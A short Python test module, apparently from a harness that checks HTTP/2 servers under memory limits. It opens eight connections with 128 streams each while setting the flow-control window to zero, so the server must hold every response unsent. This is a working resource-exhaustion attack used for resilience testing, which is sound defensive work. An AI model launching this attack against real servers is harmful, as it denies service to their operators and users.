"""128 streams on each of eight connections, whose responses may not be sent: each
stream's window is 0."""

import frames
from attack import Attack, still_open

ATTACK = Attack(configurations=("deployments", "static"), short=("10Mi", "32Mi"))
CONNECTIONS, STREAMS = 8, 128


async def run(target):
    asked = b"".join(frames.request(1 + 2 * number, frames.head(b"/large")) for number in range(STREAMS))

    async def begin(_):
        return await target.http2(frames.opening({frames.INITIAL_WINDOW: 0}) + asked)

    opened = await target.many(CONNECTIONS, begin)
    await target.wait()
    return f"{len(opened)} connections with {STREAMS} streams, {still_open(opened)} stayed"
